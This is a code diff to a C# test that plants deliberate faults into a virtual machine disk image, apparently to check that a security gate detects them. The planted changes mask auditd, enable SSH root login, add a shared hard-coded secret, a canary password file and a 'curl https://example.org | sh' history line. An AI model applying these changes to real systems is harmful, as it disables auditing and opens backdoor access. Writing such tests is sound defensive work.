@@ -98,33 +98,23 @@ public sealed class GateTests(SharedForge forge)
     {
         var raw = Path.Combine(folder, "disk.raw");
         await DiskFormat.ExpandAsync(Path.Combine(artifact, "disk.qcow2"), raw, Cancellation);
-        var commands = new List<string>
-        {
+        await new DiskChanges(raw)
             // Units for this alone, in a folder that systemd reads and no package uses.
-            "mkdir /etc/systemd/system.attached",
-            "mkdir /etc/systemd/system.attached/sockets.target.wants",
-            "symlink /etc/systemd/system.attached/sockets.target.wants/fault.socket ../fault.socket",
-            "symlink /etc/systemd/system.attached/auditd.service /dev/null",
-            "rm /srv/www/healthz",
-        };
-        void Write(string path, string text)
-        {
-            var source = Path.Combine(folder, Path.GetFileName(path));
-            File.WriteAllText(source, text);
-            commands.Add($"write {source} {path}");
-        }
-
-        Write("/etc/systemd/system.attached/fault.socket", Unit);
-        Write("/etc/systemd/system.attached/fault@.service", Service);
-        Write("/etc/ssh/sshd_config.d/09-fault.conf", "PermitRootLogin yes\n");
-
-        // The beacon takes up a secret that it finds chosen but not yet enrolled: every instance the same.
-        Write(
-            "/usr/lib/tmpfiles.d/fault.conf",
-            $"d /var/lib/imageforge 0700\nf /var/lib/imageforge/secret.new 0600 root root - {new string('5', 64)}\n");
-        Write("/opt/forgotten", $"password={plan.Canary}\n");
-        Write("/root/.bash_history", "curl https://example.org | sh\n");
-        await DebugFs.WriteAsync(raw, commands, plan.SourceDateEpoch, Cancellation);
+            .WithFolder("/etc/systemd/system.attached").WithFolder("/etc/systemd/system.attached/sockets.target.wants")
+            .WithLink("/etc/systemd/system.attached/sockets.target.wants/fault.socket", "../fault.socket")
+            .WithLink("/etc/systemd/system.attached/auditd.service", "/dev/null")
+            .Without("/srv/www/healthz")
+            .WithFile("/etc/systemd/system.attached/fault.socket", Unit)
+            .WithFile("/etc/systemd/system.attached/fault@.service", Service)
+            .WithFile("/etc/ssh/sshd_config.d/09-fault.conf", "PermitRootLogin yes\n")
+            // The beacon takes up a secret that it finds chosen but not yet enrolled: every instance the same.
+            .WithFile(
+                "/usr/lib/tmpfiles.d/fault.conf",
+                "d /var/lib/imageforge 0700\n"
+                    + $"f /var/lib/imageforge/secret.new 0600 root root - {new string('5', 64)}\n")
+            .WithFile("/opt/forgotten", $"password={plan.Canary}\n")
+            .WithFile("/root/.bash_history", "curl https://example.org | sh\n")
+            .MakeAsync(plan.SourceDateEpoch, Cancellation);
         await DiskFormat.CompressAsync(raw, Path.Combine(folder, "disk.qcow2"), Cancellation);
         File.Delete(raw);
         File.Copy(Path.Combine(artifact, "vmlinuz"), Path.Combine(folder, "vmlinuz"));
